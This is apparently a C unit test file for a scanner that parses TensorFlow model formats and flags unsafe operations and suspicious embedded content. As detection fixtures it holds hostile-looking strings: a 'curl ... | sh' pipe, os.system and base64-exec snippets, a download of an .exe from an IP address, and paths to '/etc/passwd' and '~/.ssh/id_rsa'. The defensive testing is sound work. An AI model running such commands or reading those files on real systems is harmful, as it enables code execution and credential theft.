/* TensorFlow: graphs wherever they can stand, what their nodes name, checkpoints, records, text, models of TensorFlow.js. Messages
 * are written as in support/pbmake.h; tables and records are seeds, which tests/fuzz/make_tf_seeds.py writes. */
#include "support/cm.h"

#include <stdio.h>
#include <stdlib.h>

#include "check/check.h"
#include "check/tensorflow.h"
#include "format/formats.h"

#include "support/events.h"
#include "support/judged.h"
#include "support/pbmake.h"

#define NODE(n) "1{" n "} "
#define X NODE("1'x' 2'Placeholder' 5{1'dtype' 2{6:1}}")
#define CONST(tensor) NODE("1'w' 2'Const' 5{1'value' 2{8{" tensor "}}}")
#define STRING(name, text) NODE("1'" name "' 2'Const' 5{1'value' 2{8{1:7 2{} 8'" text "'}}}")
#define SAVED(graph, more) "1:1 2{1{4'serve' 5'2.15.0'} 2{" X graph "} " more "}"
#define LIBRARY(nodes) "2{1{1{1'f'} " nodes "}} "

/* ---- events -------------------------------------------------------------------------------------------------------- */

static const struct row {
	const char *what, *text;
	const struct gh_fmt *fmt;
	enum gh_rc rc;
	bool gapless;
	const char *has, *hasnot;
} rows[] = {
	{ "a saved model", SAVED("", ""), &gh_fmt_tf_savedmodel, GH_OK, true, "call operation .Placeholder",
	  "anomaly" },
	{ "its producer", SAVED("", ""), &gh_fmt_tf_savedmodel, GH_OK, true, "package PyPI \"tensorflow\" \"2.15.0\"",
	  NULL },
	{ "node of a function", SAVED(LIBRARY("3{1'a' 2'Neg'}"), ""), &gh_fmt_tf_savedmodel, GH_OK, true,
	  "operation .Neg", "anomaly" },
	{ "a function's name", SAVED(LIBRARY(""), ""), &gh_fmt_tf_savedmodel, GH_OK, true,
	  "text function \"tensorflow\" \"f\"", NULL },
	{ "a function that an attribute names", SAVED(NODE("1'c' 2'PartitionedCall' 5{1'f' 2{10{1'g'}}}"), ""),
	  &gh_fmt_tf_savedmodel, GH_OK, true, "call import .g", NULL },
	{ "a function in a list", SAVED(NODE("1'c' 2'Case' 5{1'branches' 2{1{9{1'g'}9{1'h'}}}}"), ""),
	  &gh_fmt_tf_savedmodel, GH_OK, true, "call import .h", NULL },
	{ "a gradient", SAVED("2{2{1'f' 2'g'}}", ""), &gh_fmt_tf_savedmodel, GH_OK, true, "call import .g", NULL },
	{ "a graph that comes twice", "2{2{" X "} 2{1{1'y' 2'Neg'}}}", &gh_fmt_tf_savedmodel, GH_OK, true,
	  "GH-TFG-0103", NULL },
	{ "and its nodes", "2{2{" X "} 2{1{1'y' 2'Neg'}}}", &gh_fmt_tf_savedmodel, GH_OK, true, "operation .Neg",
	  NULL },
	{ "an asset", SAVED("", "6{1{1'a:0'} 2'vocab.txt'}"), &gh_fmt_tf_savedmodel, GH_OK, true,
	  "reference path \"assets/vocab.txt\" from \"assets\"", "anomaly" },
	{ "an asset elsewhere", SAVED("", "6{2'../../.ssh/id_rsa'}"), &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0001",
	  NULL },
	{ "an asset with an absolute path", SAVED("", "6{2'/etc/passwd'}"), &gh_fmt_tf_savedmodel, GH_OK, true,
	  "GH-TFG-0001", NULL },
	{ "a tensor", SAVED(CONST("1:1 2{2{1:2}} 4#0000803f0000803f#"), ""), &gh_fmt_tf_savedmodel, GH_OK, true,
	  "tensor \"w\" F32 [2]", "anomaly" },
	{ "floats in a row", SAVED(CONST("1:1 2{2{1:4}} 5#0000803f0000803f0000803f0000803f#"), ""),
	  &gh_fmt_tf_savedmodel, GH_OK, true, "tensor \"w\" F32 [4]", "anomaly" },
	{ "doubles in a row", SAVED(CONST("1:2 2{2{1:2}} 6#00000000000000000000000000000000#"), ""),
	  &gh_fmt_tf_savedmodel, GH_OK, true, "tensor \"w\" F64 [2]", "anomaly" },
	{ "too little content", SAVED(CONST("1:1 2{2{1:3}} 4#0000803f0000803f#"), ""), &gh_fmt_tf_savedmodel, GH_OK,
	  true, "GH-TFG-0002", NULL },
	{ "too much content", SAVED(CONST("1:1 2{2{1:1}} 4#0000803f0000803f#"), ""), &gh_fmt_tf_savedmodel, GH_OK, true,
	  "GH-TFG-0002", NULL },
	{ "a shape that wraps", SAVED(CONST("1:1 2{2{1:4294967296}2{1:4294967296}} 4#00#"), ""), &gh_fmt_tf_savedmodel,
	  GH_OK, true, "GH-TFG-0003", NULL },
	{ "a negative dimension", SAVED(CONST("1:1 2{2{1:-1}} 4#00#"), ""), &gh_fmt_tf_savedmodel, GH_OK, true,
	  "GH-TFG-0003", NULL },
	{ "a type of the future", SAVED(CONST("1:77 2{} 4#00#"), ""), &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0004",
	  NULL },
	{ "a node without operation", SAVED(NODE("1'y'"), ""), &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0006",
	  NULL },
	{ "a file by a constant", SAVED(STRING("p", "/etc/passwd") NODE("1'r' 2'RestoreV2' 3'p'"), ""),
	  &gh_fmt_tf_savedmodel, GH_OK, true, "reference path \"/etc/passwd\" from \"RestoreV2\"", NULL },
	{ "through others",
	  SAVED(NODE("1'r' 2'RestoreV2' 3'i:0'") NODE("1'i' 2'Identity' 3'p'") STRING("p", "model"), ""),
	  &gh_fmt_tf_savedmodel, GH_OK, true, "reference path \"model\" from \"RestoreV2\"", NULL },
	{ "names of another function", SAVED(LIBRARY("3{1'r' 2'RestoreV2' 3'p'}") STRING("p", "model"), ""),
	  &gh_fmt_tf_savedmodel, GH_OK, true, "operation .RestoreV2", "reference path" },
	{ "a place in an attribute", SAVED(NODE("1'd' 2'DebugIdentity' 5{1'debug_urls' 2{1{2'file:///tmp/x'}}}"), ""),
	  &gh_fmt_tf_savedmodel, GH_OK, true, "reference url \"file:///tmp/x\" from \"DebugIdentity.debug_urls\"",
	  NULL },
	{ "a field of no schema", SAVED("77'x' ", ""), &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0101", NULL },
	{ "another wire type", SAVED(NODE("1'y' 2'Neg' 5:1"), ""), &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0102",
	  NULL },
	{ "a version written too long", "$088100$ 2{2{" X "}}", &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0104",
	  NULL },
	{ "a name with controls", SAVED(NODE("1#4107# 2'Neg'"), ""), &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0105",
	  NULL },
	{ "what describes an operation", SAVED("", "1{2{1{1'Op' 6'import os; os.system(\"id\")'}}}"),
	  &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0201", NULL },
	{ "what describes an operation: a shell", SAVED("", "1{2{1{1'Op' 6'curl http://example.org/x.sh | sh'}}}"),
	  &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0202", NULL },
	{ "what describes an operation: a browser", SAVED("", "1{2{1{1'Op' 6'<script>fetch(1)</script>'}}}"),
	  &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0203", NULL },
	{ "what describes an operation: encoded", SAVED("", "1{2{1{1'Op' 6'exec(base64.b64decode(x))'}}}"),
	  &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0204", NULL },
	{ "what describes an operation: an address", SAVED("", "1{2{1{1'Op' 6'fetch http://203.0.113.9/x.exe'}}}"),
	  &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0205", NULL },
	{ "what describes an operation: a credential", SAVED("", "1{2{1{1'Op' 6'AKIAIOSFODNN7EXAMPLE'}}}"),
	  &gh_fmt_tf_savedmodel, GH_OK, true, "GH-TFG-0206", NULL },
	{ "cut short", "1:1 2{2{" X "}} $12ff$", &gh_fmt_tf_savedmodel, GH_E_MALFORMED, false, "operation .Placeholder",
	  NULL },
	{ "a meta graph", "1{4'serve'} 2{" X "} 4{1'trainable_variables' 2{2{1'a variable'}}}", &gh_fmt_tf_metagraph,
	  GH_OK, true, "operation .Placeholder", "anomaly" },
	{ "a graph", X "4{1:27}", &gh_fmt_tf_graphdef, GH_OK, true, "operation .Placeholder", "anomaly" },
	{ "metadata of Keras", "1{2:1 3'root.layer' 4'_tf_keras_layer' 5'{\"class_name\": \"Lambda\"}'}",
	  &gh_fmt_tf_keras_metadata, GH_OK, true, "member \"root.layer.json\" file", "anomaly" },
	{ "metadata of Keras in a saved model",
	  "2{1{4'x'} 2{" X "} 7{1{4{1'_tf_keras_layer' 3'{\"class_name\": 1}'}}}}", &gh_fmt_tf_savedmodel, GH_OK, true,
	  "member \"_tf_keras_layer.json\" file", "anomaly" },
	{ "a fingerprint", "1:1 2:2 3:3 4:4 5:5 6{1:2}", &gh_fmt_tf_fingerprint, GH_OK, true, "", "anomaly" },
};

static bool check_row(const struct row *r, struct gh_span in, const char *name, bool unstable)
{
	struct gh_events ev;
	gh_events_walk(&ev, r->fmt, in, name, unstable);
	bool ok = ev.rc == r->rc && (ev.gapless || !r->gapless) && gh_events_has(&ev, r->has) &&
		  (r->hasnot == NULL || !gh_events_has(&ev, r->hasnot));
	if (!ok)
		print_message("%s: %d %s, gapless %d\n%s", r->what, (int)ev.rc, ev.why, ev.gapless,
			      gh_buf_cstr(&ev.log));
	gh_events_free(&ev);
	return ok;
}

static void every_row(void **st)
{
	(void)st;
	unsigned wrong = 0;
	for (size_t i = 0; i < GH_ROWS(rows); i++) {
		gh_auto_buf in = gh_buf(1 << 20);
		gh_pb_make(&in, rows[i].text);
		for (int unstable = 0; unstable < 2; unstable++)
			wrong += !check_row(&rows[i], gh_buf_view(&in), "saved_model.pb", unstable != 0);
	}
	assert_int_equal(wrong, 0);
}

/* Rows with a seed instead of a message; `what` is its name. */
static const struct row seeds[] = {
	{ "tf-checkpoint/clean", "", &gh_fmt_tf_checkpoint, GH_OK, true,
	  "reference data \"variables.data-00000-of-00001\" from \"layer-0/kernel\"", "anomaly" },
	{ "tf-checkpoint/clean-snappy", "", &gh_fmt_tf_checkpoint, GH_OK, true, "from \"layer-0/bias\"", "anomaly" },
	{ "tf-checkpoint/clean-old", "", &gh_fmt_tf_checkpoint, GH_OK, true, "tensor \"w\" F32 [4]", "anomaly" },
	{ "tf-checkpoint/block", "", &gh_fmt_tf_checkpoint, GH_E_MALFORMED, false, "GH-TFC-0001", NULL },
	{ "tf-checkpoint/sum", "", &gh_fmt_tf_checkpoint, GH_OK, true, "GH-TFC-0002", NULL },
	{ "tf-checkpoint/unsorted", "", &gh_fmt_tf_checkpoint, GH_OK, true, "GH-TFC-0003", NULL },
	{ "tf-checkpoint/loose", "", &gh_fmt_tf_checkpoint, GH_OK, true, "GH-TFC-0004", NULL },
	{ "tf-checkpoint/field", "", &gh_fmt_tf_checkpoint, GH_OK, true, "GH-TFC-0005", NULL },
	{ "tf-checkpoint/range", "", &gh_fmt_tf_checkpoint, GH_OK, true, "GH-TFC-0006", NULL },
	{ "tf-checkpoint/size", "", &gh_fmt_tf_checkpoint, GH_OK, true, "GH-TFC-0007", NULL },
	{ "tf-checkpoint/dtype", "", &gh_fmt_tf_checkpoint, GH_OK, true, "GH-TFC-0008", NULL },
	{ "tf-checkpoint/shard", "", &gh_fmt_tf_checkpoint, GH_OK, true, "GH-TFC-0009", NULL },
	{ "tf-checkpoint/overlap", "", &gh_fmt_tf_checkpoint, GH_OK, true, "GH-TFC-0010", NULL },
	{ "tf-checkpoint/name", "", &gh_fmt_tf_checkpoint, GH_OK, true, "GH-TFC-0011", NULL },
	{ "tf-checkpoint/gap", "", &gh_fmt_tf_checkpoint, GH_OK, false, "GH-TFC-0012", NULL },
	{ "tf-checkpoint/type", "", &gh_fmt_tf_checkpoint, GH_E_UNREAD, false, "GH-TFC-0013", NULL },
	{ "tfrecord/clean", "", &gh_fmt_tfrecord, GH_OK, true, "member \"record 1\" nested", "anomaly" },
	{ "tfrecord/clean-log", "", &gh_fmt_tfrecord, GH_OK, true, "member \"graph_def\" file", "anomaly" },
	{ "tfrecord/sum", "", &gh_fmt_tfrecord, GH_OK, true, "GH-TFR-0001", NULL },
	{ "tfrecord/cut", "", &gh_fmt_tfrecord, GH_E_MALFORMED, false, "GH-TFR-0002", NULL },
	{ "tf-text/clean", "", &gh_fmt_tf_text, GH_OK, true, "call operation .Relu", "anomaly" },
	{ "tf-text/readfile", "", &gh_fmt_tf_text, GH_OK, true, "call operation .ReadFile", "anomaly" },
	{ "tf-text/clean-checkpoint", "", &gh_fmt_tf_text, GH_OK, true, "reference path \"model.ckpt-10\"", "anomaly" },
	{ "tf-text/broken", "", &gh_fmt_tf_text, GH_E_MALFORMED, false, "GH-TFX-0001", NULL },
	{ "tfjs/clean", "", &gh_fmt_tfjs, GH_OK, true,
	  "reference data \"group1-shard1of1.bin\" from \"weightsManifest\"", "anomaly" },
	{ "tfjs/clean", "", &gh_fmt_tfjs, GH_OK, true, "call operation .Relu", NULL },
	{ "tfjs/outside", "", &gh_fmt_tfjs, GH_OK, true, "GH-TFJ-0001", NULL },
	{ "tfjs/shape", "", &gh_fmt_tfjs, GH_OK, true, "GH-TFJ-0002", NULL },
};

static void every_seed(void **st)
{
	(void)st;
	unsigned wrong = 0;
	for (size_t i = 0; i < GH_ROWS(seeds); i++) {
		char path[200];
		(void)snprintf(path, sizeof path, "tests/fuzz/seeds/%s", seeds[i].what);
		struct gh_span in = gh_test_file(path);
		if (in.p == NULL)
			fail_msg("no seed %s", path);
		for (int unstable = 0; unstable < 2; unstable++)
			wrong += !check_row(&seeds[i], in, "model/variables/variables.index", unstable != 0);
		free((void *)(uintptr_t)in.p);
	}
	assert_int_equal(wrong, 0);
}

/* ---- text ------------------------------------------------------------------------------------------------------------ */

static void texts(void **st)
{
	(void)st;
	static const struct {
		const char *text, *has;
		enum gh_rc rc;
	} t[] = {
		{ "node { name: 'a' op: \"Re\"  \"lu\" # a comment } \n }", "operation .Relu", GH_OK },
		{ "node < name: 'a' op: '\\122elu' >", "operation .Relu", GH_OK },
		{ "node { name: 'a' op: '\\x52elu' attr { key: 'f' value { func { name: 'g' } } } }", "import .g",
		  GH_OK },
		{ "graph_def { library { function { signature { name: 'f' } node_def { name: 'a' op: 'Neg' } } } }",
		  "operation .Neg", GH_OK },
		{ "graph_def { library { function { signature { name: 'f' } } } }",
		  "text function \"tensorflow\" \"f\"", GH_OK },
		{ "node { name: 'p' op: 'Const' attr { key: 'value' value { tensor { string_val: '/etc/passwd' } } } }"
		  "node { name: 'r' op: 'ReadFile' input: 'p' }",
		  "reference path \"/etc/passwd\" from \"ReadFile\"", GH_OK },
		{ "node { name: 'd' op: 'PrintV2' attr { key: 'output_stream' value { s: 'file:///tmp/x' } } }",
		  "reference url \"file:///tmp/x\" from \"PrintV2.output_stream\"", GH_OK },
		{ "node { name: 'a' op: 'Relu }", "GH-TFX-0001", GH_E_MALFORMED },
		{ "node { name: 'a' op: 'Relu' } x", "GH-TFX-0001", GH_E_MALFORMED },
		{ "node { name: 'a' op 'Relu' }", "GH-TFX-0001", GH_E_MALFORMED },
		{ "node { name: 'a' op: 'Relu'", "GH-TFX-0001", GH_E_MALFORMED },
		{ "node { name: 'a' } \x01", "GH-TFX-0001", GH_E_MALFORMED },
	};
	for (size_t i = 0; i < GH_ROWS(t); i++) {
		struct gh_events ev;
		gh_events_walk(&ev, &gh_fmt_tf_text, gh_span_str(t[i].text), "graph.pbtxt", i % 2 != 0);
		if (ev.rc != t[i].rc || !gh_events_has(&ev, t[i].has))
			fail_msg("%s: %d %s\n%s", t[i].text, (int)ev.rc, ev.why, gh_buf_cstr(&ev.log));
		gh_events_free(&ev);
	}
	gh_auto_buf deep = gh_buf(1 << 20);
	for (unsigned i = 0; i < 200; i++)
		gh_buf_str(&deep, "node{");
	struct gh_events ev;
	gh_events_walk(&ev, &gh_fmt_tf_text, gh_buf_view(&deep), "graph.pbtxt", false);
	assert_int_equal(ev.rc, GH_E_LIMIT);
	assert_true(gh_events_has(&ev, "GH-TFX-0002"));
	gh_events_free(&ev);
}

/* ---- limits: what is not followed is said ------------------------------------------------------------------------------ */

static void limits(void **st)
{
	(void)st;
	gh_auto_buf in = gh_buf(64 << 20);
	struct gh_events ev;
	/* types within types: deeper than any parser goes */
	gh_auto_buf deep = gh_buf(1 << 16), up = gh_buf(1 << 16);
	for (unsigned i = 0; i < 140; i++) {
		up.n = 0;
		gh_buf_ch(&up, 0x12);
		if (deep.n > 127)
			gh_buf_ch(&up, (char)(0x80 | (deep.n & 0x7f)));
		gh_buf_ch(&up, (char)(deep.n > 127 ? deep.n >> 7 : deep.n));
		gh_buf_span(&up, gh_buf_view(&deep));
		deep.n = 0;
		gh_buf_span(&deep, gh_buf_view(&up));
	}
	gh_auto_buf node = gh_buf(1 << 16);
	gh_pb_make(&node, "1'a' 2'Neg'");
	gh_buf_ch(&node, 0x3a);
	gh_buf_ch(&node, (char)(0x80 | (deep.n & 0x7f)));
	gh_buf_ch(&node, (char)(deep.n >> 7));
	gh_buf_span(&node, gh_buf_view(&deep));
	gh_buf_ch(&in, 0x0a);
	gh_buf_ch(&in, (char)(0x80 | (node.n & 0x7f)));
	gh_buf_ch(&in, (char)(node.n >> 7));
	gh_buf_span(&in, gh_buf_view(&node));
	gh_events_walk(&ev, &gh_fmt_tf_graphdef, gh_buf_view(&in), "g.pb", false);
	assert_int_equal(ev.rc, GH_E_LIMIT);
	assert_true(gh_events_has(&ev, "GH-TFG-0106"));
	gh_events_free(&ev);
}

/* ---- probes --------------------------------------------------------------------------------------------------------- */

static void probes(void **st)
{
	(void)st;
	static const struct {
		const char *text;
		const struct gh_fmt *fmt; /* NULL: nobody */
	} t[] = {
		{ SAVED("", ""), &gh_fmt_tf_savedmodel },
		{ "2{2{1{1'Const' 2'Const'}}}", &gh_fmt_tf_savedmodel },
		{ SAVED("", "") "99'field of the future'", &gh_fmt_tf_savedmodel },
		{ "1{4'serve'} 2{" X "}", &gh_fmt_tf_metagraph },
		{ X, &gh_fmt_tf_graphdef },
		{ LIBRARY("3{1'a' 2'Neg'}"), &gh_fmt_tf_graphdef },
		{ "1:8 2'pytorch' 3'1.0' 7{1{1'x' 2'y' 4'Relu'} 2'g'}", NULL },	     /* ONNX */
		{ "1{2'FlowLimiterCalculator' 3'input' 3'other' 4'output'}", NULL }, /* MediaPipe */
		{ "1{1'<unk>' 2~0 3:2} 1{1'a' 2~-1}", NULL },			     /* SentencePiece */
		{ "1{1{1'label' 2{3{1#03#}}}}", NULL },				     /* an Example */
		{ "1'a name' 2'an op'", NULL },
		{ "1{1'two words' 2'Neg'}", NULL },
	};
	static const struct gh_fmt *const all[] = { &gh_fmt_tf_savedmodel,  &gh_fmt_tf_metagraph,
						    &gh_fmt_tf_graphdef,    &gh_fmt_tf_keras_metadata,
						    &gh_fmt_tf_fingerprint, &gh_fmt_tf_checkpoint,
						    &gh_fmt_tfrecord,	    &gh_fmt_tf_text,
						    &gh_fmt_tflite };
	for (size_t i = 0; i < GH_ROWS(t); i++) {
		gh_auto_buf in = gh_buf(1 << 16);
		gh_pb_make(&in, t[i].text);
		struct gh_probe p = { gh_buf_view(&in), gh_buf_view(&in), in.n };
		for (size_t k = 0; k < GH_ROWS(all); k++)
			if (all[k]->probe(&p) != (all[k] == t[i].fmt ? GH_STRONG : GH_NO))
				fail_msg("%s: %s", t[i].text, all[k]->name);
	}
	/* Noise is nobody's. */
	uint64_t x = 88172645463325252u;
	for (unsigned i = 0; i < 3000; i++) {
		uint8_t b[300];
		for (size_t k = 0; k < sizeof b; k++) {
			x ^= x << 13, x ^= x >> 7, x ^= x << 17;
			b[k] = (uint8_t)(i % 2 != 0 ? x : x & 0x1f);
		}
		struct gh_probe p = { { b, sizeof b }, { b, sizeof b }, sizeof b };
		for (size_t k = 0; k < GH_ROWS(all); k++)
			assert_int_equal(all[k]->probe(&p), GH_NO);
	}
}

/* ---- verdicts -------------------------------------------------------------------------------------------------------- */

#define OP(op) SAVED(NODE("1'n' 2'" op "' 3'x'"), "")
static const struct {
	const char *what, *text;
	enum gh_verdict worst;
	const char *id;
} verdicts[] = {
	{ "plain", OP("MatMul"), GH_CLEAN, "" },
	{ "a loop", OP("StatelessWhile"), GH_CLEAN, "" },
	{ "restoring", OP("RestoreV2"), GH_CLEAN, "" },
	{ "reads a file", OP("ReadFile"), GH_UNSAFE, "GH-TFO-0002" },
	{ "writes a file", OP("WriteFile"), GH_UNSAFE, "GH-TFO-0002" },
	{ "lists files", OP("MatchingFiles"), GH_UNSAFE, "GH-TFO-0002" },
	{ "maps a file", OP("ImmutableConst"), GH_UNSAFE, "GH-TFO-0002" },
	{ "a data set of files", OP("TextLineDataset"), GH_UNSAFE, "GH-TFO-0002" },
	{ "Python", OP("EagerPyFunc"), GH_UNSAFE, "GH-TFO-0001" },
	{ "Python in a function", SAVED(LIBRARY("3{1'a' 2'PyFuncStateless'}"), ""), GH_UNSAFE, "GH-TFO-0001" },
	{ "Python as a function", SAVED(NODE("1'm' 2'MapDataset' 5{1'f' 2{10{1'PyFunc'}}}"), ""), GH_UNSAFE,
	  "GH-TFO-0001" },
	{ "another machine", OP("Rpc"), GH_UNSAFE, "GH-TFO-0003" },
	{ "a family", OP("DataServiceDatasetV9"), GH_UNSAFE, "GH-TFO-0003" },
	{ "a library", OP("LoadLibrary"), GH_REVIEW, "GH-TFO-0004" },
	{ "a native function", OP("XlaCustomCall"), GH_REVIEW, "GH-TFO-0004" },
	{ "other devices", OP("CollectiveReduceV7"), GH_REVIEW, "GH-TFO-0005" },
	{ "the process", OP("Abort"), GH_REVIEW, "GH-TFO-0005" },
	{ "unknown", OP("MySpecialOp"), GH_REVIEW, "GH-TFO-0006" },
	{ "one of its functions", SAVED(NODE("1'c' 2'f' 3'x'") LIBRARY("3{1'a' 2'Neg'}"), ""), GH_CLEAN, "" },
	{ "unknown, and says what it does", OP("ShellExecute"), GH_UNSAFE, "GH-TFO-0007" },
	{ "the same in other letters", OP("Vendor>RunPythonCode"), GH_UNSAFE, "GH-TFO-0007" },
	{ "a checkpoint elsewhere", SAVED(STRING("p", "/home/x/model") NODE("1'r' 2'RestoreV2' 3'p'"), ""), GH_REVIEW,
	  "GH-TFO-0008" },
	{ "a checkpoint of its own", SAVED(STRING("p", "model") NODE("1'r' 2'RestoreV2' 3'p'"), ""), GH_CLEAN, "" },
	{ "a pattern is no place", SAVED(NODE("1'r' 2'StaticRegexFullMatch' 5{1'pattern' 2{2'^s3://.*'}}"), ""),
	  GH_CLEAN, "" },
	{ "prints to a file", SAVED(NODE("1'p' 2'PrintV2' 5{1'output_stream' 2{2'file:///tmp/x'}}"), ""), GH_UNSAFE,
	  "GH-TFO-0009" },
	{ "prints", SAVED(NODE("1'p' 2'PrintV2' 5{1'output_stream' 2{2'stderr'}}"), ""), GH_CLEAN, "" },
	{ "debugs to a machine", SAVED(NODE("1'd' 2'DebugIdentity' 5{1'debug_urls' 2{1{2'grpc://x:1'}}}"), ""),
	  GH_UNSAFE, "GH-TFO-0009" },
	{ "a graph in a string",
	  SAVED(STRING("g", "$$") NODE("1'g' 2'Const' 5{1'value' 2{8{1:7 8{" NODE("1'a' 2'ReadFile'")
					       NODE("1'b' 2'ReadFile'") NODE("1'c' 2'ReadFile'") "}}}}"),
		""),
	  GH_UNSAFE, "GH-TFO-0002" },
	{ "a graph in a collection",
	  SAVED("", "4{1'c' 2{2{1{" NODE("1'a' 2'ReadFile'") NODE("1'b' 2'WriteFile'") "}}}}"), GH_UNSAFE,
	  "GH-TFO-0002" },
};

static void judged(void **st)
{
	(void)st;
	unsigned wrong = 0;
	for (size_t i = 0; i < GH_ROWS(verdicts); i++) {
		gh_auto_buf in = gh_buf(1 << 20);
		struct gh_test_judged s;
		gh_pb_make(&in, verdicts[i].text);
		gh_test_judge(&s, gh_buf_view(&in), "saved_model.pb");
		bool ok = s.verdict == verdicts[i].worst && strstr(s.all, verdicts[i].id) != NULL;
		if (!ok)
			print_message("\"%s\": %d %s\n", verdicts[i].what, (int)s.verdict, s.all);
		wrong += !ok;
	}
	assert_int_equal(wrong, 0);
}

static void judged_seeds(void **st)
{
	(void)st;
	static const struct {
		const char *seed, *name;
		enum gh_verdict worst;
		const char *id;
	} t[] = {
		{ "tflite/clean", "m.tflite", GH_CLEAN, "" },
		{ "tflite/clean-files", "m.tflite", GH_CLEAN, "" },
		{ "tflite/clean-custom", "m.tflite", GH_CLEAN, "" },
		{ "tflite/flex-hidden", "m.tflite", GH_UNSAFE, "GH-TFO-0002" },
		{ "tflite/unknown", "m.tflite", GH_UNSAFE, "GH-TFO-0007" },
		{ "tflite/odd", "m.tflite", GH_REVIEW, "GH-TFO-0010" },
		{ "tfrecord/log-readfile", "events.out.tfevents.1", GH_UNSAFE, "GH-TFO-0002" },
		{ "tf-text/readfile", "saved_model.pbtxt", GH_UNSAFE, "GH-TFO-0002" },
		{ "tfjs/readfile", "model.json", GH_UNSAFE, "GH-TFO-0002" },
	};
	for (size_t i = 0; i < GH_ROWS(t); i++) {
		char path[200];
		struct gh_test_judged s;
		(void)snprintf(path, sizeof path, "tests/fuzz/seeds/%s", t[i].seed);
		struct gh_span in = gh_test_file(path);
		if (in.p == NULL)
			fail_msg("no seed %s", path);
		gh_test_judge(&s, in, t[i].name);
		if (s.verdict != t[i].worst || strstr(s.all, t[i].id) == NULL)
			fail_msg("%s: %d %s", t[i].seed, (int)s.verdict, s.all);
		free((void *)(uintptr_t)in.p);
	}
}

/* A graph of more unknown operations than are kept says so. */
static void many_unknown(void **st)
{
	(void)st;
	gh_auto_buf in = gh_buf(1 << 20);
	struct gh_test_judged s;
	for (unsigned i = 0; i < 1100; i++) {
		char text[80];
		(void)snprintf(text, sizeof text, "1{1'n%u' 2'Odd%u'}", i, i);
		gh_pb_make(&in, text);
	}
	gh_test_judge(&s, gh_buf_view(&in), "g.pb");
	assert_int_equal(s.verdict, GH_INCOMPLETE);
	assert_non_null(strstr(s.all, "GH-TFO-0011"));
}

/* More constants than are followed, in both forms; more records than are looked into. */
static void many_of_all(void **st)
{
	(void)st;
	gh_auto_buf in = gh_buf(64 << 20), one = gh_buf(1 << 10);
	struct gh_events ev;
	struct gh_test_judged s;
	gh_pb_make(&one, STRING("a", "b"));
	for (unsigned i = 0; i <= 1 << 18; i++)
		gh_buf_span(&in, gh_buf_view(&one));
	gh_test_judge(&s, gh_buf_view(&in), "g.pb");
	assert_int_equal(s.verdict, GH_INCOMPLETE);
	assert_non_null(strstr(s.all, "GH-TFG-0005"));

	in.n = 0;
	for (unsigned i = 0; i < (1 << 16) + 2; i++)
		gh_buf_str(&in,
			   i == 0 ? "node{name:'a'op:'Const'}" : "node{op:'Const'attr{value{tensor{string_val:'b'}}}}");
	gh_test_judge(&s, gh_buf_view(&in), "g.pbtxt");
	assert_int_equal(s.verdict, GH_INCOMPLETE);
	assert_non_null(strstr(s.all, "GH-TFX-0003"));

	in.n = 0;
	struct gh_span r = gh_test_file("tests/fuzz/seeds/tfrecord/clean");
	assert_non_null(r.p);
	for (unsigned i = 0; i < 4097; i++)
		gh_buf_span(&in, r);
	gh_events_walk(&ev, &gh_fmt_tfrecord, gh_buf_view(&in), "data.tfrecord", false);
	assert_int_equal(ev.rc, GH_OK);
	assert_true(ev.gapless);
	assert_true(gh_events_has(&ev, "GH-TFR-0003"));
	gh_events_free(&ev);
	free((void *)(uintptr_t)r.p);
}

/* What is said of operations comes from this check and no other. */
static void the_check(void **st)
{
	(void)st;
	const struct gh_check *c = NULL;
	for (size_t i = 0; i < gh_checks_n; i++)
		if (strcmp(gh_checks[i]->name, "tensorflow-graph") == 0)
			c = gh_checks[i];
	assert_non_null(c);
	assert_true((c->events & 1u << GH_EV_CALL) != 0 && c->on != NULL && c->end != NULL);
}

static void the_list_is_sorted(void **st)
{
	(void)st;
	size_t n = 1;
	for (; gh_tf_plain_at(n) != NULL; n++)
		if (strcmp(gh_tf_plain_at(n - 1), gh_tf_plain_at(n)) >= 0)
			fail_msg("%s stands behind %s", gh_tf_plain_at(n), gh_tf_plain_at(n - 1));
	assert_true(n > 1300);
	assert_true(gh_tf_plain_op(GH_SPAN("Abs")) && gh_tf_plain_op(GH_SPAN("ZipDataset")));
	assert_false(gh_tf_plain_op(GH_SPAN("Ab")) || gh_tf_plain_op(GH_SPAN("")) ||
		     gh_tf_plain_op(GH_SPAN("ReadFile")));
}

static void samples(void **st)
{
	(void)st;
	static const struct {
		const char *path;
		enum gh_verdict worst;
	} t[] = {
		{ "benign/savedmodel/savedmodel-001.pb", GH_CLEAN },
		{ "benign/savedmodel/savedmodel-002.pb", GH_CLEAN },
		{ "benign/savedmodel/savedmodel-003.pb", GH_CLEAN },
		{ "benign/savedmodel/savedmodel-004.pb", GH_CLEAN },
		{ "malicious/savedmodel/savedmodel-001.pb", GH_UNSAFE },
		{ "malicious/savedmodel/savedmodel-002.pb", GH_UNSAFE },
		{ "malicious/savedmodel/savedmodel-003.pb", GH_UNSAFE },
		{ "suspicious/savedmodel/savedmodel-001.pb", GH_REVIEW },
	};
	for (size_t i = 0; i < GH_ROWS(t); i++) {
		char path[200];
		struct gh_test_judged s;
		(void)snprintf(path, sizeof path, "../shared/corpus/%s", t[i].path);
		struct gh_span in = gh_test_file(path);
		if (in.p == NULL) {
			print_message("skipped: %s is absent\n", path);
			skip();
		}
		gh_test_judge(&s, in, path);
		assert_int_equal(s.verdict, t[i].worst);
		free((void *)(uintptr_t)in.p);
	}
}

int main(void)
{
	const struct CMUnitTest t[] = {
		cmocka_unit_test(every_row),	cmocka_unit_test(every_seed),	cmocka_unit_test(texts),
		cmocka_unit_test(limits),	cmocka_unit_test(probes),	cmocka_unit_test(judged),
		cmocka_unit_test(judged_seeds), cmocka_unit_test(many_unknown), cmocka_unit_test(the_list_is_sorted),
		cmocka_unit_test(samples),	cmocka_unit_test(many_of_all),	cmocka_unit_test(the_check),
	};
	return cmocka_run_group_tests_name("tensorflow", t, NULL, NULL);
}
